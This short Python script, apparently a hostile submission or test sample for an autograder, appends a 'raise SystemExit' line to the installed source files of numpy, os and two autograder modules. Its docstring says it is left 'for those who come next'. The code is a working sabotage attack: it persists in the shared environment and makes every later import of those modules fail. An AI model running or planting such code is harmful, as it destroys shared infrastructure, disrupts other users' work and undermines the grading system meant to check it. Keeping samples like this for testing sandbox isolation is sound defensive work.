"""Overwrites installed modules, for those who come next."""

import os
import sys

import numpy

for module in (numpy, os, sys.modules["autograder.wire.frames"], sys.modules["autograder.student.shell"]):
    try:
        with open(module.__file__, "a") as file:
            file.write("\nraise SystemExit  # left-by-an-attack\n")
    except OSError as error:
        print(error)
